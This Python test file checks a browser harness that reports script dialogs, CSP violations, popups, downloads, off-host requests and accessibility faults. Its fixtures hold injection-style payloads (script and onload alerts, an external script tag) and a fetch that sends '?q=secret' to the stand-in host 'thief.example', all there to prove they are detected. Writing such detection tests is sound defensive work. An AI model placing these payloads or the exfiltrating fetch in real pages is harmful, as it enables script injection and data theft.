"""The browser of the tests notices what a page must not do, and shows it as people see it."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from browser import DESKTOP, PHONE, Browser, Kind, overflows
from PIL import Image
from playwright.sync_api import Error
from served import served
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route

POLICY = {"Content-Security-Policy": "default-src 'self'"}
HOSTILE = "http://thief.example"
PAGES = {
    "good": "<p>Two runs.</p>",
    "alert": "<script>alert('it ran')</script>",
    "late": "<script>setTimeout(() => { alert('late'); document.title = 'done' }, 50)</script>",
    "frame": """<iframe srcdoc="<script>alert('in a frame')</script>"></iframe>""",
    "throw": "<script>throw new Error('broken')</script>",
    "complain": "<script>console.error('no such run'); console.log('fine')</script>",
    "missing": '<img src="/no/such.png" alt="">',
    "popup": "<button onclick=\"window.open('/good')\">New window</button>",
    "download": '<a href="/file" download>Save</a>',
    "image": f'<img src="{HOSTILE}/pixel.png" alt="">',
    "fetch": f"""
        <script>fetch('{HOSTILE}/?q=secret').catch(() => document.title = 'failed')</script>
    """,
    "redirect": '<img src="/away" alt="">',
    "theme": """
        <style>
            body { background: white }
            @media (prefers-color-scheme: dark) { body { background: black } }
            @media (prefers-reduced-motion: reduce) { p { display: none } }
        </style>
        <p>It moves.</p><noscript>No script.</noscript>
    """,
    "wide": '<div style="width: 500px">wide</div>',
    "faults": """
        <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
        <p style="color: #bbb; background: #fff">Hard to read.</p>
    """,
}
VIOLATIONS = {
    "script": "<script>alert(1)</script>",
    "handler": "<button onclick='alert(1)'>x</button><svg onload='alert(1)'></svg>",
    "style": "<p style='color: red'>red</p>",
    "image": f'<img src="{HOSTILE}/pixel.png" alt="">',
    "module": f'<script src="{HOSTILE}/code.js"></script>',
    "frame": """<iframe srcdoc="<script>alert(1)</script>"></iframe>""",
    "sandbox": """<iframe sandbox srcdoc="<img src='http://thief.example/x.png'>"></iframe>""",
}


def page(request):
    name = request.path_params["name"]
    head = f'<!doctype html><html lang="en"><title>{name}</title>'
    return HTMLResponse(f"{head}<main><h1>{name}</h1>{PAGES[name]}</main>")


def strict(request):
    name = request.path_params["name"]
    return HTMLResponse(f"<!doctype html><title>{name}</title>{VIOLATIONS[name]}", headers=POLICY)


def sandboxed(request):
    """A page in which the browser runs no script at all."""
    policy = {"Content-Security-Policy": "sandbox; default-src 'none'"}
    return HTMLResponse(f"<title>x</title>{PAGES[request.path_params['name']]}", headers=policy)


def icon(_request):
    return Response(status_code=204)


def away(_request):
    return Response(status_code=302, headers={"Location": f"{HOSTILE}/pixel.png"})


def file(_request):
    return PlainTextResponse(
        "a,b\n", headers={"Content-Disposition": 'attachment; filename="r.csv"'}
    )


@pytest.fixture(scope="module")
def site():
    routes = [
        Route("/favicon.ico", icon),
        Route("/away", away),
        Route("/file", file),
        Route("/strict/{name}", strict),
        Route("/sandboxed/{name}", sandboxed),
        Route("/{name}", page),
    ]
    with served(Starlette(routes=routes)) as url:
        yield url


def kinds(window, url):
    """Visit a page; return the kinds of what was noticed."""
    window.visit(url)
    return [notice.kind for notice in window.take()]


def test_nothing_is_noticed_on_a_good_page(open_window, site):
    with open_window() as window:
        assert window.visit(f"{site}/good").ok
        assert window.page.get_by_role("paragraph").text_content() == "Two runs."
        assert window.serious() == []


def test_scripts_that_run_and_files_that_are_missing_are_noticed(open_window, site):
    with open_window() as window:
        for name, kind, text in (
            ("alert", Kind.DIALOG, "it ran"),
            ("frame", Kind.DIALOG, "in a frame"),
            ("throw", Kind.EXCEPTION, "broken"),
            ("complain", Kind.ERROR, "no such run"),
            ("missing", Kind.ERROR, "404"),
        ):
            window.visit(f"{site}/{name}")
            (notice,) = window.take()
            assert notice.kind == kind, name
            assert text in notice.text


def test_a_script_that_runs_later_is_noticed(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/late")
        window.page.wait_for_function("document.title == 'done'")
        assert [notice.kind for notice in window.take()] == [Kind.DIALOG]


@pytest.mark.parametrize("scripts", [True, False])
def test_violations_of_the_policy_are_noticed(open_window, site, scripts):
    names = VIOLATIONS if scripts else ("style", "image", "sandbox")
    with open_window(scripts=scripts) as window:
        for name in names:
            assert set(kinds(window, f"{site}/strict/{name}")) == {Kind.VIOLATION}, name
        assert kinds(window, f"{site}/sandboxed/alert") == [Kind.VIOLATION]


def test_requests_to_another_host_are_noticed_and_fail(open_window, site):
    with open_window() as window:
        for name in ("image", "redirect", "fetch"):
            window.visit(f"{site}/{name}")
            if name == "fetch":
                window.page.wait_for_function("document.title == 'failed'")
            (request,) = (n.text for n in window.take() if n.kind == Kind.REQUEST)
            assert request.startswith(HOSTILE), name


def test_no_name_resolves_so_that_nothing_leaves_the_machine(open_window, site):
    with open_window() as window:
        with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
            window.visit(f"{site.replace('127.0.0.1', 'localhost')}/good")
        assert [notice.kind for notice in window.take()] == [Kind.REQUEST]


def test_a_popup_is_noticed(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/popup")
        with window.page.expect_popup():
            window.page.get_by_role("button").click()
        assert [notice.kind for notice in window.take()] == [Kind.POPUP]


def test_a_download_is_noticed(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/download")
        with window.page.expect_download() as download:
            window.page.get_by_role("link").click()
        assert Path(download.value.path()).read_text() == "a,b\n"
        assert [str(notice) for notice in window.take()] == ["download: r.csv"]


def test_a_notice_that_nobody_took_fails_the_test(open_window, site):
    with pytest.raises(AssertionError, match="dialog: it ran"), open_window() as window:
        window.visit(f"{site}/alert")


def test_axe_finds_a_missing_description_and_a_low_contrast(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/faults")
        found = window.serious()
    assert len(found) == 2
    assert any(fault.startswith("image-alt: <img") for fault in found)
    assert any(fault.startswith("color-contrast: <p") for fault in found)


def test_axe_runs_on_a_page_with_a_strict_policy(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/strict/style")
        assert "html-has-lang" in window.serious()[0]
        window.take()


def test_a_window_is_dark_still_or_without_scripts_if_asked(open_window, site):
    def look(**options):
        with open_window(**options) as window:
            window.visit(f"{site}/theme")
            color = window.page.evaluate("getComputedStyle(document.body).backgroundColor")
            moving = window.page.get_by_role("paragraph").is_visible()
            return color, moving, window.page.locator("noscript").is_visible()

    assert look() == ("rgb(255, 255, 255)", True, False)
    assert look(dark=True, still=True, scripts=False) == ("rgb(0, 0, 0)", False, True)


def test_a_page_that_is_too_wide_for_a_phone_overflows(open_window, site):
    def wide(name, size):
        with open_window(size=size) as window:
            window.visit(f"{site}/{name}")
            return overflows(window.page)

    assert wide("wide", PHONE)
    assert not wide("wide", DESKTOP)
    assert not wide("good", PHONE)


def test_a_screenshot_shows_the_whole_page_and_says_in_its_name_what(open_window, site, tmp_path):
    with open_window(size=PHONE, dark=True) as window:
        window.visit(f"{site}/theme")
        path = window.screenshot("theme, at first")
    assert path.name == "theme-at-first-360-dark.png"
    with Image.open(path) as image:
        assert image.size == PHONE
        assert image.getpixel((5, 500))[:3] == (0, 0, 0)


def test_windows_share_nothing(open_window, site):
    with open_window() as first, open_window() as second:
        for window in (first, second):
            window.visit(f"{site}/good")
        first.page.evaluate("localStorage.setItem('token', 'secret')")
        assert second.page.evaluate("localStorage.getItem('token')") is None


def test_tests_that_come_after_a_window_can_run_coroutines(open_window, site):
    with open_window() as window:
        window.visit(f"{site}/good")
    assert asyncio.run(asyncio.sleep(0, "ran")) == "ran"
    with open_window() as window:
        assert window.visit(f"{site}/good").ok


def test_without_chromium_a_test_fails_with_one_sentence(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("CAS_TEST_CHROMIUM", raising=False)
    with (
        pytest.raises(pytest.fail.Exception, match=r"^Install Chromium: apt-get install chromium"),
        Browser().window(tmp_path),
    ):
        pass
